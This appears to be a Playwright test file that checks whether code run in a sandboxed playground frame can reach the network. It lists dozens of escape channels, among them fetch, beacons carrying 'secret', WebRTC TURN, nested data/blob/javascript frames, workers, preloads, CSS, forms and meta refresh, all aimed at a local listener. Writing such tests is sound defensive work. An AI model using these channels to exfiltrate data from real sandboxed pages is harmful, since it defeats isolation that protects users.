/**
 * What code in the playground's frame may try to reach the network. In a whole browser, which
 * connects ahead: the engine alone does not.
 */
import { createSocket } from 'node:dgram';
import { createServer, type AddressInfo } from 'node:net';

import { expect, test, type Page } from '@playwright/test';

import { BROWSER_FLAGS, findWholeBrowser } from '../../support/browser';

test.use({ launchOptions: { executablePath: findWholeBrowser(), args: BROWSER_FLAGS } });

/** The first Chromium that was seen to honor `Connection-Allowlist`. */
const FIRST_WITH_ALLOWLIST = 156;

/**
 * Ways out of the frame to a listener at `TO`, each as code. All of them that the web has, whether
 * the policy, the sandbox or the frame itself closes them.
 */
const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: "await fetch('http://TO/fetch');",
  'another fetch': "await Window.prototype.fetch?.call(window, 'http://TO/fetch');",
  XMLHttpRequest: "const r = new XMLHttpRequest(); r.open('GET', 'http://TO/xhr'); r.send();",
  beacon: "navigator.sendBeacon('http://TO/beacon', 'secret');",
  fetchLater: "fetchLater('http://TO/later', { activateAfter: 0 });",
  EventSource: "new EventSource('http://TO/events');",
  WebSocket: "new WebSocket('ws://TO/socket');",
  WebTransport: "new WebTransport('https://TO/transport');",
  'WebRTC over TCP': turn('turn:TO?transport=tcp'),
  'WebRTC over UDP': turn('turn:TO?transport=udp'),
  'WebRTC of an older name': turn('turn:TO?transport=tcp', 'webkitRTCPeerConnection'),
  STUN: turn('stun:TO'),
  'WebRTC in a blank frame':
    "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'turn:TO?transport=tcp', username: 'a', credential: 'b' }] }).createDataChannel('a');",
  'WebRTC in a frame with a document': nested("f.srcdoc = '<script>' + TURN + '</script>';"),
  'WebRTC in a frame with a script address': nested("f.src = 'javascript:' + TURN;"),
  'WebRTC in a frame of data': nested("f.src = 'data:text/html,<script>' + TURN + '</script>';"),
  'WebRTC in a frame of a blob': nested(
    "f.src = URL.createObjectURL(new Blob(['<script>' + TURN + '</script>'], { type: 'text/html' }));",
  ),
  'a frame in HTML': inHtml('<iframe src="http://TO/frame"></iframe>'),
  'a frame in an attribute of events': inHtml('<img src="data:," onerror="TURN">'),
  'a frame in a range':
    'document.body.append(document.createRange().createContextualFragment(\'<iframe src="http://TO/range"></iframe>\'));',
  'a frame of a parser':
    "document.body.append(new DOMParser().parseFromString('<iframe src=\"http://TO/parser\"></iframe>', 'text/html').body.firstChild);",
  'a frame in a shadow tree':
    "document.body.attachShadow({ mode: 'closed' }).innerHTML = '<link rel=preconnect href=\"http://TO\">';",
  'document.write': 'document.write(\'<img src="http://TO/write">\');',
  object: element('object', "data: 'http://TO/object'"),
  embed: element('embed', "src: 'http://TO/embed'"),
  'a worker': 'new Worker(URL.createObjectURL(new Blob(["fetch(\'http://TO/worker\')"])));',
  'a shared worker':
    'new SharedWorker(URL.createObjectURL(new Blob(["fetch(\'http://TO/worker\')"])));',
  'a service worker': "await navigator.serviceWorker.register('http://TO/worker.js');",
  worklet:
    "await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('http://TO/worklet.js');",
  'import()': 'await new Function(\'return import("http://TO/module.js")\')();',
  'a script': element('script', "src: 'http://TO/script.js'"),
  'a module': element('script', "type: 'module', textContent: 'import \"http://TO/module.js\"'"),
  'speculation rules': element(
    'script',
    "type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['http://TO/rule'] }] })",
  ),
  ...Object.fromEntries(
    [
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'stylesheet',
      'icon',
      'manifest',
    ].map((rel) => [
      `link ${rel}`,
      element('link', `rel: '${rel}', as: 'image', href: 'http://TO/link'`),
    ]),
  ),
  'a link of another namespace':
    "const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link'); l.rel = 'preconnect'; l.href = 'http://TO'; document.head.append(l);",
  'a link of a class':
    "class L extends HTMLLinkElement {} customElements.define('a-link', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = 'http://TO'; document.head.append(l);",
  'a link of React':
    "const { createElement } = await import('react'); void createElement; document.head.append(Object.assign(document.createElement('LINK'), { rel: 'preconnect', href: 'http://TO' }));",
  image:
    "await new Promise((r) => Object.assign(new Image(), { onerror: r, src: 'http://TO/image' }));",
  'an image of SVG':
    "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', 'http://TO/svg'); s.append(i); document.body.append(s);",
  video: element('video', "src: 'http://TO/video', poster: 'http://TO/poster', preload: 'auto'"),
  audio: "new Audio('http://TO/audio').load();",
  track:
    "const v = document.createElement('video'); v.append(Object.assign(document.createElement('track'), { src: 'http://TO/track', default: true })); document.body.append(v);",
  'an input of an image': element('input', "type: 'image', src: 'http://TO/input'"),
  CSS: element(
    'style',
    'textContent: \'@import "http://TO/import"; body { background: url(http://TO/background) }\'',
  ),
  'an inline style': "document.body.style.background = 'url(http://TO/style)';",
  font: "await new FontFace('a', 'url(http://TO/font)').load();",
  'a form':
    "const f = document.createElement('form'); f.action = 'http://TO/form'; document.body.append(f); f.submit();",
  popup: "open('http://TO/popup');",
  'a link to a new window': anchor("target: '_blank'"),
  'a ping': anchor("target: '_blank', ping: 'http://TO/ping'"),
  payment:
    "await new PaymentRequest([{ supportedMethods: 'http://TO/pay' }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();",
  notification: "new Notification('a', { icon: 'http://TO/icon' });",
  FedCM:
    "await navigator.credentials.get({ identity: { providers: [{ configURL: 'http://TO/fedcm', clientId: 'a' }] } });",
  'a policy that reports':
    "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = \"img-src 'none'; report-uri http://TO/report\"; document.head.append(m);",
  'a new refresh':
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=http://TO/refresh'; document.head.append(m);",
  'a changed refresh':
    "const m = document.querySelector('meta'); m.content = '0; url=http://TO/refresh'; m.httpEquiv = 'refresh';",
  'the window above': "top.location.href = 'http://TO/top';",
};

function turn(urls: string, name = 'RTCPeerConnection'): string {
  return `const c = new ${name}({ iceServers: [{ urls: '${urls}', username: 'secret', credential: 'b' }] }); c.createDataChannel('a'); await c.setLocalDescription(await c.createOffer());`;
}

function nested(fill: string): string {
  const code = turn('turn:TO?transport=tcp').replaceAll("'", '`');
  return `const TURN = "(async () => {${code}})()"; const f = document.createElement('iframe'); ${fill} document.body.append(f);`;
}

function inHtml(html: string): string {
  return `document.body.insertAdjacentHTML('beforeend', '${html}');`;
}

function element(name: string, properties: string): string {
  return `document.head.append(Object.assign(document.createElement('${name}'), { ${properties} }));`;
}

function anchor(properties: string): string {
  return `const a = Object.assign(document.createElement('a'), { href: 'http://TO/a', ${properties} }); document.body.append(a); a.click();`;
}

/** Ways that lead the frame itself elsewhere. Each ends a run. */
const NAVIGATIONS = [
  "location.href = 'http://TO/location';",
  "location.replace('http://TO/location');",
  "document.body.append(Object.assign(document.createElement('a'), { href: 'http://TO/a', id: 'a' })); document.getElementById('a').click();",
  "self.open('http://TO/self', '_self');",
  // Browsers ignore the attribute for other sites.
  "Object.assign(document.createElement('a'), { href: 'http://TO/a', download: 'a' }).click();",
];

/** What is recorded of a connection by itself. */
const CONNECTION = 'TCP: a connection';

/** Listens for TCP and UDP at one port of this computer, and records what comes. */
async function listen() {
  const heard: string[] = [];
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', (data) => heard.push(`TCP: ${data.toString('latin1').slice(0, 80)}`));
    heard.push(CONNECTION);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const datagrams = createSocket('udp4', (data) => heard.push(`UDP: ${data.toString('latin1')}`));
  await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve));
  const close = (): void => {
    server.close();
    datagrams.close();
  };
  return { heard, address: `127.0.0.1:${port}`, close };
}

const playground = (page: Page) => page.getByRole('region', { name: 'Playground' });
const output = (page: Page) => page.getByRole('log', { name: 'Output' });
const statusOf = (page: Page) => playground(page).getByRole('status');

/** Opens the playground of the example, whose code `run` replaces. */
async function openPlayground(page: Page): Promise<void> {
  await page.goto('/docs/example');
  await page.locator('[data-code=run]').first().click();
  await expect(statusOf(page)).toHaveText('Done');
}

async function run(page: Page, code: string): Promise<void> {
  await playground(page).getByRole('textbox', { name: 'Code' }).focus();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.insertText(code);
  await playground(page).getByRole('button', { name: 'Run', exact: true }).click();
}

test('no way leads out of the frame to the network', async ({ page }) => {
  test.slow();
  const { heard, address, close } = await listen();
  await openPlayground(page);
  const ways = Object.entries(WAYS_OUT).map(
    ([name, code]) =>
      `console.log(${JSON.stringify(name)}); void (async () => { ${code} })().catch(() => undefined); await pause(20);`,
  );
  await run(
    page,
    [
      'const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));',
      ...ways,
      // Long enough for what a browser does later, such as looking for a way to a peer.
      'await pause(1500);',
      "console.log('all tried');",
    ]
      .join('\n')
      .replaceAll('TO', address),
  );
  await expect(output(page)).toContainText('all tried', { timeout: 60_000 });
  expect(heard).toEqual([]);
  close();
});

test('code that leads its frame to another site does not even connect to it', async ({
  page,
  browser,
}) => {
  const { heard, address, close } = await listen();
  await openPlayground(page);
  for (const code of NAVIGATIONS) {
    await run(page, code.replaceAll('TO', address));
    await expect(statusOf(page)).toHaveText(/Done|Failed/);
  }
  await run(page, "await new Promise((r) => setTimeout(r, 1000)); console.log('still here');");
  await expect(output(page)).toHaveText('still here');
  const connects = Number(browser.version().split('.')[0]) < FIRST_WITH_ALLOWLIST;
  expect(heard.filter((each) => !(connects && each === CONNECTION))).toEqual([]);
  close();
});
